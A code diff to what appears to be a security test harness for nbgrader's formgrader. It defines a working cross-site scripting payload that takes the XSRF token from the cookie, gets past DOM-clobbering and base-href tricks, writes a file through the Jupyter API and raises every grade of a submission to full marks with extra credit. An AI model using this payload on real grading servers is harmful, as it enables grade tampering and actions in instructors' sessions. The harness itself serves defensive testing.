@@ -23,20 +23,27 @@ MARK = "pwned"
 
 def beacon(tag: str) -> str:
     """A short script that marks that it ran (a global and a request to the page's server)."""
-    return f"window.{MARK}=(window.{MARK}||[]).concat('{tag}');fetch('/{MARK}/{tag}')"
+    return (
+        f"window.{MARK}=(window.{MARK}||[]).concat('{tag}');"
+        f"fetch(location.protocol+'//'+location.host+'/{MARK}/{tag}')"
+    )
 
 
 def exploit(tag: str) -> str:
     """What the attack of issue 20 did from the instructor's formgrader page, as one script."""
     body = (
         beacon(tag) + ";"
-        "var x=(document.cookie.match(/_xsrf=([^;]+)/)||[])[1]||'';"
+        # the getter of Document.prototype: the dom-clobbering payload hides document.cookie
+        "var c=Object.getOwnPropertyDescriptor(Document.prototype,'cookie').get.call(document);"
+        "var x=(c.match(/_xsrf=([^;]+)/)||[])[1]||'';"
         "var h={'Content-Type':'application/json','X-XSRFToken':decodeURIComponent(x)};"
-        f"fetch('/api/contents/{MARK}-{tag}.txt',{{method:'PUT',headers:h,"
+        # absolute addresses: the base-href payload changes what relative ones mean
+        "var o=location.protocol+'//'+location.host;"
+        f"fetch(o+'/api/contents/{MARK}-{tag}.txt',{{method:'PUT',headers:h,"
         "body:JSON.stringify({type:'file',format:'text',content:'x'})});"
-        "if(window.submission_id){fetch('/formgrader/api/grades?submission_id='+"
+        "if(window.submission_id){fetch(o+'/formgrader/api/grades?submission_id='+"
         "window.submission_id,{headers:h}).then(function(r){return r.json()}).then("
-        "function(gs){gs.forEach(function(g){fetch('/formgrader/api/grade/'+g.id,"
+        "function(gs){gs.forEach(function(g){fetch(o+'/formgrader/api/grade/'+g.id,"
         "{method:'PUT',headers:h,body:JSON.stringify({manual_score:g.max_score,"
         "extra_credit:7})})})})}"
     )
@@ -178,6 +185,10 @@ def hostile_notebook(assignment: str, js: Any) -> Any:
     """
     nb = copy.deepcopy(make_sample(assignment, "solved").notebook)
     md = markdown_payloads(js)
+    # a missing attachment makes nbconvert refuse the whole page (formgrader shows an error,
+    # feedback is not generated), which would hide whether the other payloads run; the unit
+    # tests cover it
+    del md["md-attachment-missing"]
     html = html_payloads(js)
     written = [c for c in nb.cells if c.metadata.get("nbgrader", {}).get("solution")]
     written = [c for c in written if c.cell_type == "markdown"]
